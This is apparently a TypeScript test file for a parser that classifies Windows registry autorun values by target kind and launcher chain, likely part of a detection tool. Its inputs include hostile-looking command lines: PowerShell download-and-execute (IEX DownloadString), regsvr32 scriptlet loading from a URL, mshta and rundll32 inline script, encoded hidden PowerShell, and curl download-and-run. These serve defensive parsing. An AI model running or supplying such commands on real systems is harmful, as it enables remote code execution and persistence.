import fc from 'fast-check';
import { expect, test } from 'vitest';
import { TARGET_KINDS } from '../../../src/core/windows/launch/target-shape.ts';
import { readValueTarget } from '../../../src/core/windows/launch/value-target.ts';
import { samples } from '../samples.ts';

const read = (data: string) => {
  const { kind, path, launchers } = readValueTarget(data);
  return [kind, path, launchers.join('>')];
};

test.each([
  // direct starts
  ['C:\\Path\\AtomicRedTeam.exe', 'executable', 'c:\\path\\atomicredteam.exe', ''],
  ['C:\\Path\\AtomicRedTeam.dll', 'library', 'c:\\path\\atomicredteam.dll', ''],
  [
    'C:\\Users\\IEUser\\AppData\\Roaming\\svchost.exe',
    'executable',
    'c:\\users\\ieuser\\appdata\\roaming\\svchost.exe',
    '',
  ],
  ['"C:\\Program Files\\A B\\c.exe" /x', 'executable', 'c:\\program files\\a b\\c.exe', ''],
  ['C:\\Program Files\\A B\\c.exe /x', 'executable', 'c:\\program files\\a b\\c.exe', ''],
  ['C:\\Program Files\\A B\\run me -s', 'executable', 'c:\\program files\\a b\\run', ''],
  ['"C:\\x\\a.exe /silent"', 'executable', 'c:\\x\\a.exe', ''],
  ['\\??\\C:\\x\\a.exe', 'executable', 'c:\\x\\a.exe', ''],
  ['%TEMP%\\execute.bat', 'script', '?:\\users\\*\\appdata\\local\\temp\\execute.bat', ''],
  ['%AppData%\\my app\\go.exe -q', 'executable', '?:\\users\\*\\appdata\\roaming\\my app\\go.exe', ''],
  ['updater', 'bare_name', 'updater', ''],
  ['explorer.exe', 'bare_name', 'explorer.exe', ''],
  ['C:\\x\\start.lnk', 'document', 'c:\\x\\start.lnk', ''],
  ['C:\\x\\note.txt:hid.exe', 'executable', 'c:\\x\\note.txt:hid.exe', ''],
  ['\\\\srv\\share\\a b.exe', 'unc', '\\\\srv\\share\\a b.exe', ''],
  ['\\\\host@SSL\\DavWWWRoot\\x.exe', 'unc', '\\\\host@ssl\\davwwwroot\\x.exe', ''],
  ['C:\\windows\\system32\\cmd.exe', 'executable', 'c:\\windows\\system32\\cmd.exe', ''],
  ['https://example.test/a', 'url', undefined, ''],
  ['', 'none', undefined, ''],
  // libraries
  ['C:\\Windows\\System32\\Rundll32.exe smssvc.dll,Start', 'library', 'smssvc.dll', 'rundll32'],
  ['rundll32.exe a.dll, DllMain', 'library', 'a.dll', 'rundll32'],
  ['C:\\Windows\\System32\\rundll32 C:\\x y\\b.dll,#1', 'library', 'c:\\x y\\b.dll', 'rundll32'],
  ['rundll32.exe "C:\\x\\b.wll",#1', 'library', 'c:\\x\\b.wll', 'rundll32'],
  [
    'rundll32.exe C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll,a /p:rtcpef',
    'library',
    'c:\\users\\pedro~1.gus\\appdata\\local\\temp\\rtcpef.dll',
    'rundll32',
  ],
  ['rundll32.exe shell32.dll,ShellExec_RunDLL C:\\x\\a.exe', 'executable', 'c:\\x\\a.exe', 'rundll32'],
  ['rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";x()', 'inline_code', undefined, 'rundll32'],
  ['regsvr32 /s C:\\x\\a.ocx', 'library', 'c:\\x\\a.ocx', 'regsvr32'],
  ['regsvr32.exe /s /n /u /i:https://example.test/f.sct scrobj.dll', 'url', undefined, 'regsvr32'],
  // scripts and code
  ['wscript.exe //e:vbscript //b C:\\x\\a.txt', 'script', 'c:\\x\\a.txt', 'wscript'],
  ['cscript "C:\\a b\\x.js" 1', 'script', 'c:\\a b\\x.js', 'cscript'],
  ['mshta vbscript:Execute("x")', 'inline_code', undefined, 'mshta'],
  ['mshta https://example.test/x.hta', 'url', undefined, 'mshta'],
  ['mshta.exe C:\\x\\y.hta', 'script', 'c:\\x\\y.hta', 'mshta'],
  ['powershell -ep bypass -file C:\\x\\y.ps1', 'script', 'c:\\x\\y.ps1', 'powershell'],
  ['powershell -c "& \'C:\\x y\\z.ps1\'"', 'script', 'c:\\x y\\z.ps1', 'powershell'],
  [
    'powershell.exe "IEX (New-Object Net.WebClient).DownloadString(`"https://example.test/a.bat`")"',
    'inline_code',
    undefined,
    'powershell',
  ],
  ['powershell -enc AAAAAAAA', 'inline_code', undefined, 'powershell'],
  ['C:\\py\\pythonw.exe C:\\x\\a.py --go', 'script', 'c:\\x\\a.py', 'pythonw'],
  ['javaw -cp x -jar "C:\\x\\a.jar"', 'script', 'c:\\x\\a.jar', 'javaw'],
  ['node -e "require(1)"', 'inline_code', undefined, 'node'],
  ['wsl -e /tmp/x', 'inline_code', undefined, 'wsl'],
  // wrappers
  ['cmd /c start "" /min C:\\x\\a.exe -q', 'executable', 'c:\\x\\a.exe', 'cmd>start'],
  [
    '%%COMSPEC%% /C start /b C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell -noP -enc SQBm',
    'inline_code',
    undefined,
    'cmd>start>powershell',
  ],
  ['cmd.exe /c "cd /d C:\\x && wscript.exe go.vbs"', 'script', 'c:\\x\\go.vbs', 'cmd>wscript'],
  ['cmd /q /c"C:\\a b\\c.bat"', 'script', 'c:\\a b\\c.bat', 'cmd'],
  ['cmd /c if exist C:\\x\\a.exe C:\\x\\a.exe /q', 'executable', 'c:\\x\\a.exe', 'cmd'],
  ['cmd /c r^undll32 C:\\x\\a.dll,Go', 'library', 'c:\\x\\a.dll', 'cmd>rundll32'],
  [
    'conhost.exe --headless powershell -w hidden -file C:\\x.ps1',
    'script',
    'c:\\x.ps1',
    'conhost>powershell',
  ],
  [
    'forfiles /p c:\\windows /m notepad.exe /c "cmd /c C:\\x\\a.exe"',
    'executable',
    'c:\\x\\a.exe',
    'forfiles>cmd',
  ],
  ['pcalua.exe -a C:\\x\\a.exe -c -q', 'executable', 'c:\\x\\a.exe', 'pcalua'],
  ['msiexec /q /i https://example.test/a.msi', 'url', undefined, 'msiexec'],
  ['msiexec.exe /i "C:\\x\\a.msi" /qn', 'document', 'c:\\x\\a.msi', 'msiexec'],
  ['msiexec /y C:\\x\\a.dll', 'library', 'c:\\x\\a.dll', 'msiexec'],
  ['explorer.exe C:\\x\\a.exe', 'executable', 'c:\\x\\a.exe', 'explorer'],
  ['scriptrunner.exe -appvscript C:\\x\\a.exe', 'script', 'c:\\x\\a.exe', 'scriptrunner'],
])('%s starts a payload of kind %s', (data, kind, path, launchers) => {
  expect(read(data)).toEqual([kind, path, launchers]);
});

test('the data of a squirrel updater keeps its arguments as written', () => {
  const data =
    'C:\\Users\\ann\\AppData\\Local\\Vendor\\Update.exe --processStart "App.exe" --process-start-args "--system-initiated"';
  expect(readValueTarget(data)).toMatchObject({
    kind: 'executable',
    path: 'c:\\users\\ann\\appdata\\local\\vendor\\update.exe',
    arguments: '--processStart "App.exe" --process-start-args "--system-initiated"',
  });
});

test('a launcher that reads its code from another value names that value', () => {
  const data =
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -c "$x=$((gp HKLM:SOFTWARE\\Microsoft\\Windows\\CurrentVersion Debug).Debug);powershell -Win Hidden -enc $x"';
  expect(readValueTarget(data)).toMatchObject({
    kind: 'registry_payload',
    registryPath: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Debug',
    program: 'c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe',
  });
  expect(
    readValueTarget(
      'mshta javascript:x=new%20ActiveXObject("a").RegRead("HKCU\\\\software\\\\k\\\\v");eval(x)',
    ),
  ).toMatchObject({
    kind: 'registry_payload',
    registryPath: 'HKCU\\software\\k\\v',
  });
});

test('what the log does not hold is binary, and marks of the path are facts', () => {
  expect(readValueTarget(undefined)).toMatchObject({ kind: 'binary', launchers: [] });
  expect(readValueTarget('C:\\Users\\PEDRO~1.GUS\\a.exe')).toMatchObject({ shortName: true });
  expect(readValueTarget('C:\\Program Files\\a.exe')).toMatchObject({ unquotedBlank: true });
  expect(readValueTarget('C:\\x\\t.txt:s.exe')).toMatchObject({ stream: 's.exe' });
  expect(readValueTarget('rundll32 a.dll,Go').export).toBe('Go');
  expect(readValueTarget('cmd /c curl https://example.test/x -o y & y').url).toBe('https://example.test/x');
});

test('unwrapping stops at a bound and no text makes it throw', () => {
  expect(readValueTarget('cmd /c '.repeat(200)).kind).toBeDefined();
  const piece = fc.constantFrom(
    'cmd /c ',
    'powershell -c ',
    '"',
    "'",
    'C:\\a b\\',
    'x.exe',
    ' ',
    ',',
    '&&',
    'rundll32 ',
    'a.dll',
    '%TEMP%',
    '^',
    '\\',
    'start ',
    '-e ',
    '\u0000',
    'if exist ',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
      expect(TARGET_KINDS).toContain(readValueTarget(pieces.join('')).kind);
    }),
    { numRuns: samples(1000) },
  );
});
